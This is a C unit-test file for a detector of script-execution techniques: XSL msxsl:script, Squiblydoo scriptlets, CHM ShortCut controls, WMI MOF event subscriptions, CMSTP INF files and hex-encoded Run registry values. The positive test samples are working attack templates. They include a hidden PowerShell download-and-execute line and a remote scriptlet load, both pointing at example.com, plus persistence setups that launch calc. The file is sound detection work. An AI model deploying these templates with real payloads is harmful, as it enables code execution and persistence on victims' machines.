/*
 * test_heur_lang - unit tests for heur_lang (lang.c, lang_conf.c): XSL msxsl:script,
 *                  scriptlets, CHM ShortCut controls, WMI MOF, CMSTP INF, .reg hex values
 *
 * Each positive is the delivery shape of a public technique (Squiblytwo XSL for wmic
 * /format, Squiblydoo scriptlet, CHM ShortCut of the HTML Help control, WMI permanent
 * event subscription, CMSTP INF with UnRegisterOCXs and RunPreSetupCommands, a .reg file
 * whose Run value is stored as hex(2)); the payloads are inert (calc, example.com). Each
 * test checks the symbols and the layer handed out (how, language, exact code), and the
 * negatives check that ordinary XSLT, HTML, a driver .inf and a regedit export of a plain
 * value give nothing.
 */
#include <setjmp.h> /* setjmp.h, stdarg.h and stddef.h must precede cmocka.h */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "heur/lang.h"
#include "lib/buf.h"
#include "lib/xalloc.h"
#include "model/hit.h"
#include "testouts.h"
#include "testutil.h"

/* run - heur_lang over s; the hits (caller frees) and layers in o */
static HITS *run(const char *lang, const char *s, size_t n, OUTS *o)
{
    HITS *h = hits_new();
    HEUR_CTX c = {h, "1/x", NULL, outs_emit, o, 0, 4u << 20, 40};
    heur_lang(&c, lang, (const unsigned char *)s, n);
    return h;
}

static void test_xsl(void **state)
{
    (void)state;
    static const char xsl[] =
        "<?xml version='1.0'?>\n"
        "<stylesheet xmlns=\"http://www.w3.org/1999/XSL/Transform\" "
        "xmlns:ms=\"urn:schemas-microsoft-com:xslt\"\n xmlns:user=\"placeholder\" "
        "version=\"1.0\">\n<output method=\"text\"/>\n"
        "\t<ms:script implements-prefix=\"user\" language=\"JScript\">\n\t<![CDATA[\n"
        "\tvar r = new ActiveXObject(\"WScript.Shell\").Run(\"calc.exe\");\n\t]]> "
        "</ms:script>\n</stylesheet>\n";
    OUTS o = {0};
    HITS *h = run(NULL, xsl, sizeof(xsl) - 1, &o);
    assert_true(hits_has(h, "XSL_SCRIPT"));
    const OUT *l = outs_find(&o, "xslscript");
    assert_non_null(l);
    assert_string_equal(l->lang, "js");
    assert_string_equal(l->data, "var r = new ActiveXObject(\"WScript.Shell\").Run(\"calc.exe\");");
    hits_free(h);
    outs_free(&o);

    static const char vbs[] = "<xsl:stylesheet version=\"1.0\" "
                              "xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" "
                              "xmlns:msxsl=\"urn:schemas-microsoft-com:xslt\">"
                              "<msxsl:script language=\"VBScript\" implements-prefix=\"u\">"
                              "CreateObject(\"WScript.Shell\").Run \"calc\"</msxsl:script>"
                              "</xsl:stylesheet>";
    h = run(NULL, vbs, sizeof(vbs) - 1, &o);
    assert_true(hits_has(h, "XSL_SCRIPT"));
    l = outs_find(&o, "xslscript");
    assert_non_null(l);
    assert_string_equal(l->lang, "vbs");
    assert_string_equal(l->data, "CreateObject(\"WScript.Shell\").Run \"calc\"");
    hits_free(h);
    outs_free(&o);

    static const char plain[] = "<xsl:stylesheet version=\"1.0\" "
                                "xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
                                "<xsl:template match=\"/\"><html><body><xsl:value-of "
                                "select=\"title\"/><script src=\"a.js\"/></body></html>"
                                "</xsl:template></xsl:stylesheet>";
    h = run(NULL, plain, sizeof(plain) - 1, &o);
    assert_int_equal(h->n, 0);
    assert_int_equal(o.n, 0);
    hits_free(h);
}

static void test_sct(void **state)
{
    (void)state;
    static const char sct[] =
        "<?XML version=\"1.0\"?>\n<scriptlet>\n<registration\n    progid=\"TESTING\"\n"
        "    classid=\"{A1112221-0000-0000-3000-000DA00DABFC}\" >\n"
        "    <script language=\"JScript\">\n        <![CDATA[\n"
        "            var foo = new ActiveXObject(\"WScript.Shell\").Run(\"calc.exe\"); \n"
        "        ]]>\n</script>\n</registration>\n</scriptlet>\n";
    OUTS o = {0};
    HITS *h = run("sct", sct, sizeof(sct) - 1, &o);
    assert_true(hits_has(h, "SCT_SCRIPTLET"));
    assert_true(hits_has(h, "SCT_REGISTRATION_SCRIPT"));
    const OUT *l = outs_find(&o, "sctscript");
    assert_non_null(l);
    assert_string_equal(l->lang, "js");
    assert_string_equal(l->data,
                        "var foo = new ActiveXObject(\"WScript.Shell\").Run(\"calc.exe\");");
    hits_free(h);
    outs_free(&o);

    /* an ordinary page: <script> blocks but no scriptlet */
    static const char page[] = "<html><script>var x = 1;</script><body>hi</body></html>";
    h = run("html", page, sizeof(page) - 1, &o);
    assert_int_equal(h->n, 0);
    assert_int_equal(o.n, 0);
    hits_free(h);
}

static void test_chm(void **state)
{
    (void)state;
    static const char page[] =
        "<HTML><TITLE>Help</TITLE><HEAD></HEAD><BODY>\n"
        "<OBJECT id=x classid=\"clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11\" width=1 "
        "height=1>\n<PARAM name=\"Command\" value=\"ShortCut\">\n"
        " <PARAM name=\"Button\" value=\"Bitmap::shortcut\">\n"
        " <PARAM name=\"Item1\" value=\",cmd.exe,/c powershell -nop -w hidden -c &quot;iex "
        "(New-Object Net.WebClient).DownloadString('http://example.com/a')&quot;\">\n"
        " <PARAM name=\"Item2\" value=\"273,1,1\">\n</OBJECT>\n"
        "<SCRIPT>\nx.Click();\n</SCRIPT>\n</BODY></HTML>\n";
    OUTS o = {0};
    HITS *h = run("html", page, sizeof(page) - 1, &o);
    assert_true(hits_has(h, "CHM_SHORTCUT_EXEC"));
    assert_true(hits_has(h, "CHM_SHORTCUT_AUTOCLICK"));
    const OUT *l = outs_find(&o, "chmshortcut");
    assert_non_null(l);
    assert_string_equal(l->lang, "bat");
    assert_string_equal(l->data, "cmd.exe /c powershell -nop -w hidden -c \"iex (New-Object "
                                 "Net.WebClient).DownloadString('http://example.com/a')\"");
    hits_free(h);
    outs_free(&o);

    /* the same control used for a help topic link (Command=Related Topics) */
    static const char topics[] =
        "<OBJECT classid=\"clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11\">"
        "<PARAM name=\"Command\" value=\"Related Topics\"><PARAM name=\"Item1\" "
        "value=\"Intro;intro.htm\"></OBJECT>";
    h = run("html", topics, sizeof(topics) - 1, &o);
    assert_int_equal(h->n, 0);
    assert_int_equal(o.n, 0);
    hits_free(h);
}

static void test_mof(void **state)
{
    (void)state;
    static const char mof[] =
        "#pragma namespace (\"\\\\\\\\.\\\\root\\\\subscription\")\n"
        "instance of __EventFilter as $EventFilter\n{\n    EventNamespace = \"Root\\\\Cimv2\";\n"
        "    Name  = \"filtP1\";\n    Query = \"Select * From __InstanceModificationEvent \"\n"
        "            \"Within 60 Where TargetInstance Isa 'Win32_PerfFormattedData_PerfOS_"
        "System'\";\n    QueryLanguage = \"WQL\";\n};\n"
        "instance of ActiveScriptEventConsumer as $Consumer\n{\n    Name = \"consP1\";\n"
        "    ScriptingEngine = \"JScript\";\n"
        "    ScriptText = \"var s = new ActiveXObject(\\\"WScript.Shell\\\");\\n\"\n"
        "                 \"s.Run(\\\"calc.exe\\\");\";\n};\n"
        "instance of CommandLineEventConsumer as $Cmd\n{\n    Name = \"c2\";\n"
        "    CommandLineTemplate = \"cmd.exe /c calc.exe\";\n};\n"
        "instance of __FilterToConsumerBinding\n{\n    Consumer = $Consumer;\n"
        "    Filter = $EventFilter;\n};\n";
    OUTS o = {0};
    HITS *h = run(NULL, mof, sizeof(mof) - 1, &o);
    assert_true(hits_has(h, "MOF_EVENT_FILTER"));
    assert_true(hits_has(h, "MOF_SCRIPT_CONSUMER"));
    assert_true(hits_has(h, "MOF_COMMAND_CONSUMER"));
    const OUT *l = outs_find(&o, "mofscript");
    assert_non_null(l);
    assert_string_equal(l->lang, "js");
    assert_string_equal(l->data,
                        "var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"calc.exe\");");
    l = outs_find(&o, "mofcommand");
    assert_non_null(l);
    assert_string_equal(l->data, "cmd.exe /c calc.exe");
    hits_free(h);
    outs_free(&o);

    /* prose that says "instance of" */
    static const char prose[] = "An instance of the class is created for each request.";
    h = run(NULL, prose, sizeof(prose) - 1, &o);
    assert_int_equal(h->n, 0);
    hits_free(h);
}

static void test_inf(void **state)
{
    (void)state;
    static const char inf[] =
        "[version]\r\nSignature=$chicago$\r\nAdvancedINF=2.5\r\n\r\n"
        "[DefaultInstall_SingleUser]\r\nUnRegisterOCXs=UnRegisterOCXSection\r\n"
        "RunPreSetupCommands=RunPreSetupCommandsSection\r\n\r\n"
        "[RunPreSetupCommandsSection]\r\n; Commands Here will be run Before Setup Begins\r\n"
        "c:\\windows\\system32\\calc.exe\r\ntaskkill /IM cmstp.exe /F\r\n\r\n"
        "[UnRegisterOCXSection]\r\n%11%\\scrobj.dll,NI,https://example.com/test.sct\r\n\r\n"
        "[Strings]\r\nAppAct = \"SOFTWARE\\Microsoft\\Connection Manager\"\r\n"
        "ServiceName=\"Test\"\r\nShortSvcName=\"Test\"\r\n";
    OUTS o = {0};
    HITS *h = run(NULL, inf, sizeof(inf) - 1, &o);
    assert_true(hits_has(h, "INF_SETUP_COMMANDS"));
    assert_true(hits_has(h, "INF_SCROBJ_REMOTE"));
    assert_false(hits_has(h, "INF_REGISTER_OCX"));
    const OUT *l = outs_find(&o, "infcommand");
    assert_non_null(l);
    assert_string_equal(l->data, "c:\\windows\\system32\\calc.exe\ntaskkill /IM cmstp.exe /F\n");
    hits_free(h);
    outs_free(&o);

    /* a driver .inf: sections and keys, nothing run */
    static const char drv[] = "[Version]\nSignature=\"$WINDOWS NT$\"\nClass=Net\n"
                              "[Manufacturer]\n%Mfg%=Models\n[Models]\n%Dev%=Install,PCI\\VEN_1\n"
                              "[Install]\nCopyFiles=Files\nAddReg=Reg\n";
    h = run(NULL, drv, sizeof(drv) - 1, &o);
    assert_int_equal(h->n, 0);
    assert_int_equal(o.n, 0);
    hits_free(h);
}

/* utf16hex - "xx,xx,..." of the UTF-16LE form of s with a terminating NUL */
static void utf16hex(BUF *b, const char *s)
{
    for (const char *p = s;; p++) {
        buf_printf(b, "%02x,00%s", (unsigned char)*p, *p ? "," : "");
        if (*p == 0)
            break;
        if ((p - s) % 12 == 11)
            buf_puts(b, "\\\r\n  ");
    }
}

static void test_reg(void **state)
{
    (void)state;
    BUF *b = buf_new(1024);
    buf_puts(b, "Windows Registry Editor Version 5.00\r\n\r\n"
                "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"
                "\"upd\"=hex(2):");
    utf16hex(b, "mshta javascript:close(new ActiveXObject('WScript.Shell').Run('calc'))");
    buf_puts(b, "\r\n\"plain\"=\"x\"\r\n");
    OUTS o = {0};
    HITS *h = run("reg", b->data, b->len, &o);
    const OUT *l = outs_find(&o, "regvalue");
    assert_non_null(l);
    assert_string_equal(l->lang, "reg");
    assert_non_null(strstr(l->data,
                           "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\"
                           "Run]\r\n\"upd\"=\"mshta javascript:close(new "
                           "ActiveXObject('WScript.Shell').Run('calc'))\"\r\n\"plain\"=\"x\""));
    hits_free(h);
    outs_free(&o);

    /* a regedit export: a binary value stays as it is, no layer */
    static const char bin[] = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\"
                              "Software\\Vendor]\r\n\"Blob\"=hex:01,02,03,ff,fe,80,00,00\r\n";
    h = run("reg", bin, sizeof(bin) - 1, &o);
    assert_int_equal(o.n, 0);
    hits_free(h);
    buf_free(b);
}

/* test_hostile - unclosed markers repeated, huge sections: bounded, no crash */
static void test_hostile(void **state)
{
    (void)state;
    static const char chm[] = "<object classid=\"clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11\">"
                              "<param name=\"Command\" value=\"ShortCut\"><param name=\"Item1\" "
                              "value=\",cmd,/c x\">";
    static const char *const pieces[] = {
        "<msxsl:script language=\"JScript\">",
        "<scriptlet><registration><script>",
        chm,
        "instance of CommandLineEventConsumer { CommandLineTemplate = \"a",
        "[s]\nRunPreSetupCommands=s,s,s,s\n",
        "\"v\"=hex(2):41,00,\\\n",
    };
    for (size_t k = 0; k < sizeof(pieces) / sizeof(pieces[0]); k++) {
        BUF *b = buf_new(1 << 20);
        while (b->len < (1u << 20))
            buf_puts(b, pieces[k]);
        OUTS o = {0};
        HITS *h = run("reg", b->data, b->len, &o);
        assert_true(o.n <= 32);
        hits_free(h);
        outs_free(&o);
        buf_free(b);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_xsl),     cmocka_unit_test(test_sct), cmocka_unit_test(test_chm),
        cmocka_unit_test(test_mof),     cmocka_unit_test(test_inf), cmocka_unit_test(test_reg),
        cmocka_unit_test(test_hostile),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
